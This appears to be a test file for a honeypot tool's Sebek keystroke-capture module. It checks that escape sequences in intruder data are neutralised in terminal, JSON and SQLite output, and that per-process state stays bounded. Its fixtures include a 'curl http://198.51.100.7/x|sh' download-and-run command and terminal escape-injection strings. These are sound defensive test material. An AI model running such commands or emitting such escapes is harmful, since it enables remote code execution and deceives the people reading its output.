/**
 * Sebek data is the intruder's (issue 12, Sebek): command names and record text never reach the operator's terminal
 * or a JSON reader as controls, SQLite keeps the raw bytes beside escaped text, a multi-byte read (a paste) makes
 * keystroke lines, and per-process state is bounded with counted eviction.
 */
import Database from 'better-sqlite3';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ethernet } from '../src/packet/build.js';
import { encodePcap } from '../src/packet/pcap.js';
import type { CapturedSebekRecord } from '../src/sebek/extract.js';
import { decodeSebekPayload, encodeSebekRecord, type SebekRecordInput } from '../src/sebek/format.js';
import { SebekSession, type KeystrokeLine } from '../src/sebek/session.js';
import { sebekDatagram } from '../src/sebek/simulate.js';
import { SebekStore } from '../src/sebek/store.js';

const { main } = await import('../src/cli/main.js');

let out = '';
let _err = '';
beforeEach(() => {
  out = '';
  _err = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => ((out += String(s)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => ((_err += String(s)), true));
});
afterEach(() => vi.restoreAllMocks());

const dir = mkdtempSync(join(tmpdir(), 'hw-hard-sebek-'));
const MAGIC = 0x2a2a2a2a;
const text = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));

/** Clear screen, set the window title (OSC ... BEL), a C1 CSI (0x9b) and a DEL: 12 bytes, a whole command name. */
const HOSTILE_COM = '\x1b[2J\x1b]0;p\x07\x9b\x7f';
const ESCAPED_COM = '\\x1b[2J\\x1b]0;p\\x07\\x9b\\x7f';

function capture(records: SebekRecordInput[]): string {
  const frames = records.map((r, i) => ({
    tsSec: 1_700_000_000 + i,
    tsUsec: 0,
    data: ethernet(sebekDatagram(encodeSebekRecord(r, MAGIC), { src: '10.0.0.5', dst: '10.0.0.1', id: i & 0xffff })),
  }));
  const file = join(dir, `c${Math.random().toString(36).slice(2)}.pcap`);
  writeFileSync(file, encodePcap(frames, { linktype: 1 }));
  return file;
}

const base = { counter: 0, timeSec: 1_700_000_000, timeUsec: 0, ppid: 1, uid: 0, inode: 0 };
const hostileSession: SebekRecordInput[] = [
  // a paste: one read of fd 0 holding a whole command line
  { ...base, counter: 1, type: 0, pid: 100, fd: 0, com: HOSTILE_COM, data: text('curl http://198.51.100.7/x|sh\r') },
  { ...base, counter: 2, type: 3, pid: 100, fd: 3, com: HOSTILE_COM, data: text('/tmp/\x1b]2;owned\x07\x00') },
  { ...base, counter: 3, type: 1, pid: 100, fd: 1, com: HOSTILE_COM, data: text('\x1b[31mred\x9b\n') },
];

// anything a terminal acts on: C0 controls (newline aside), DEL, C1 controls
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('Sebek text reaches no terminal raw', () => {
  it('text view: the command name and every line are escaped; the paste is a keystroke line', async () => {
    const file = capture(hostileSession);
    expect(await main(['node', 'honeywall', 'sebek', file, '--magic', String(MAGIC)])).toBe(0);
    expect(out).not.toMatch(CONTROL);
    expect(out).toContain(ESCAPED_COM);
    expect(out).toContain('fd 0 $ curl http://198.51.100.7/x|sh');
    expect(out).toContain('open /tmp/\\x1b]2;owned\\x07');
  });

  it('json: no C1 control, DEL or other control character raw in any line', async () => {
    const file = capture(hostileSession);
    expect(await main(['node', 'honeywall', 'sebek', file, '--magic', String(MAGIC), '--format', 'json'])).toBe(0);
    expect(out).not.toMatch(CONTROL);
    const recs = out
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .filter((o) => o.event_type === 'sebek_record');
    expect(recs[0].com).toBe(ESCAPED_COM);
    expect(recs[2].text).toBe('\\x1b[31mred\\x9b\\n');
    // the bytes themselves stay available, base64
    expect(Buffer.from(recs[2].data, 'base64').toString('latin1')).toBe('\x1b[31mred\x9b\n');
  });

  it('SQLite: raw bytes in BLOBs (data, com_raw), escaped text in the TEXT columns; a paste in keystroke_lines', async () => {
    const file = capture(hostileSession);
    const db = join(dir, 'hostile.sqlite');
    expect(await main(['node', 'honeywall', 'sebek', file, '--magic', String(MAGIC), '--db', db])).toBe(0);
    const d = new Database(db, { readonly: true });
    try {
      const r = d.prepare('SELECT com, com_raw FROM records ORDER BY id LIMIT 1').get() as { com: string; com_raw: Buffer };
      expect(r.com).toBe(ESCAPED_COM);
      expect(r.com_raw.toString('latin1')).toBe(HOSTILE_COM);
      for (const [table, col] of [
        ['processes', 'com'],
        ['processes', 'coms'],
        ['opens', 'path'],
        ['keystroke_lines', 'line'],
        ['keystroke_lines', 'com'],
      ]) {
        for (const row of d.prepare(`SELECT ${col} AS v FROM ${table}`).all() as { v: string }[]) expect(row.v).not.toMatch(CONTROL);
      }
      expect(d.prepare('SELECT line FROM keystroke_lines').all()).toEqual([{ line: 'curl http://198.51.100.7/x|sh' }]);
    } finally {
      d.close();
    }
  });

  it('a database made before com_raw existed is upgraded in place', () => {
    const db = join(dir, 'old.sqlite');
    const old = new Database(db);
    old.exec(`CREATE TABLE records (id INTEGER PRIMARY KEY, client TEXT NOT NULL, cap_sec INTEGER NOT NULL, cap_usec INTEGER NOT NULL,
      magic INTEGER NOT NULL, version INTEGER NOT NULL, type INTEGER NOT NULL, type_name TEXT NOT NULL, counter INTEGER NOT NULL,
      time_sec INTEGER NOT NULL, time_usec INTEGER NOT NULL, usec_swapped INTEGER NOT NULL, ppid INTEGER NOT NULL, pid INTEGER NOT NULL,
      uid INTEGER NOT NULL, fd INTEGER NOT NULL, inode INTEGER NOT NULL, com TEXT NOT NULL, length INTEGER NOT NULL, data BLOB NOT NULL)`);
    old.close();
    const store = new SebekStore(db);
    try {
      store.ingest([captured(hostileSession[0]!)]);
      expect(store.db.prepare('SELECT count(*) AS n FROM records WHERE com_raw IS NOT NULL').get()).toEqual({ n: 1 });
      expect([...store.exportJsonl()].join('\n')).not.toMatch(CONTROL);
    } finally {
      store.close();
    }
  });
});

function captured(r: SebekRecordInput, client = '10.0.0.5'): CapturedSebekRecord {
  const d = decodeSebekPayload(encodeSebekRecord(r, MAGIC), MAGIC);
  return { ...d.records[0]!, client, capSec: r.timeSec, capUsec: r.timeUsec };
}

describe('keystrokes from multi-byte reads', () => {
  const run = (records: SebekRecordInput[]): KeystrokeLine[] => {
    const s = new SebekSession();
    const lines: KeystrokeLine[] = [];
    for (const r of records) for (const e of s.add(captured(r))) if (e.kind === 'line') lines.push(e.line);
    for (const e of s.finish()) if (e.kind === 'line') lines.push(e.line);
    return lines;
  };

  it('a read of fd 0 with several bytes is typed byte by byte: lines, backspace, \\r\\n once', () => {
    const lines = run([
      { ...base, type: 0, pid: 7, fd: 0, com: 'bash', data: text('id\r\nuname -x\x7fa\nwget ') },
      { ...base, type: 0, pid: 7, fd: 0, com: 'bash', data: text('h') },
    ]);
    expect(lines.map((l) => [l.line, l.terminated])).toEqual([
      ['id', true],
      ['uname -a', true],
      ['wget h', false],
    ]);
  });

  it('longer reads of other fds are files and sockets, not keystrokes (a 1-byte read still is)', () => {
    const lines = run([
      { ...base, type: 0, pid: 8, fd: 3, com: 'cat', data: text('root:x:0:0::/root:/bin/sh\n') },
      { ...base, type: 0, pid: 8, fd: 5, com: 'vi', data: text('q') },
    ]);
    expect(lines.map((l) => [l.fd, l.line])).toEqual([[5, 'q']]);
  });

  it('a line is cut at its length limit, counted, and nothing is lost', () => {
    const s = new SebekSession({ maxLineChars: 10 });
    const events = s.add(captured({ ...base, type: 0, pid: 9, fd: 0, com: 'sh', data: text('0123456789abcdefghij0123\n') }));
    expect(events.map((e) => e.kind === 'line' && [e.line.line, e.line.terminated])).toEqual([
      ['0123456789', false],
      ['abcdefghij', false],
      ['0123', true],
    ]);
    expect(s.stats.cutLines).toBe(2);
  });
});

describe('per-process state is bounded', () => {
  it('20,000 distinct pids: at most 16,384 processes and line buffers held, the rest evicted and counted', () => {
    const evicted: number[] = [];
    const s = new SebekSession({}, (p) => evicted.push(p.pid));
    const lines: string[] = [];
    for (let pid = 1; pid <= 20_000; pid++) {
      for (const e of s.add(captured({ ...base, counter: pid, type: 0, pid, fd: 0, com: 'sh', data: text('x') }))) {
        if (e.kind === 'line') lines.push(e.line.line);
      }
    }
    expect(s.processes.size).toBe(16_384);
    expect(s.stats.evictedProcesses).toBe(20_000 - 16_384);
    expect(evicted.slice(0, 3)).toEqual([1, 2, 3]); // least recently used first
    expect(s.stats.evictedLines).toBe(20_000 - 16_384);
    // each evicted buffer was handed out as an unterminated line: with the ones flushed at the end, every keystroke
    for (const e of s.finish()) if (e.kind === 'line') lines.push(e.line.line);
    expect(lines).toHaveLength(20_000);
  });

  it('a process that keeps sending is not the one evicted; clients and command names are bounded too', () => {
    const s = new SebekSession({ maxProcesses: 10, maxClients: 3, maxComs: 4 });
    for (let i = 0; i < 100; i++) {
      s.add(captured({ ...base, counter: i, type: 1, pid: 1, fd: 1, com: `c${i}`, data: text('.') }));
      s.add(captured({ ...base, counter: i, type: 1, pid: 1000 + i, fd: 1, com: 'junk', data: text('.') }, `10.0.${i}.1`));
    }
    expect(s.processes.get('10.0.0.5/1')?.records).toBe(100);
    expect(s.processes.get('10.0.0.5/1')?.coms).toEqual(['c0', 'c1', 'c2', 'c3']);
    expect(s.stats.droppedComs).toBe(96);
    expect(s.loss.size).toBe(3);
    expect(s.loss.has('10.0.0.5')).toBe(true);
    expect(s.stats.evictedClients).toBe(98);
  });

  it('the text view prints every process, evicted ones when they are let go', async () => {
    const records: SebekRecordInput[] = [];
    // odd pids leave a keystroke without a line end: its buffer is let go after its process, and still printed
    for (let pid = 1; pid <= 17_000; pid++)
      records.push({ ...base, counter: pid, type: 0, pid, fd: 0, com: 'sh', data: text(pid % 2 ? 'x' : 'ls\n') });
    const file = capture(records);
    expect(await main(['node', 'honeywall', 'sebek', file])).toBe(0);
    expect(out.match(/^10\.0\.0\.5 pid \d+ \(ppid/gm)).toHaveLength(17_000);
    expect(out.match(/\$ ls$/gm)).toHaveLength(8_500);
    expect(out.match(/\$ x {3}\(no line end\)$/gm)).toHaveLength(8_500);
    expect(out).toMatch(/limits: 616 processes printed early and let go/);
  });
});
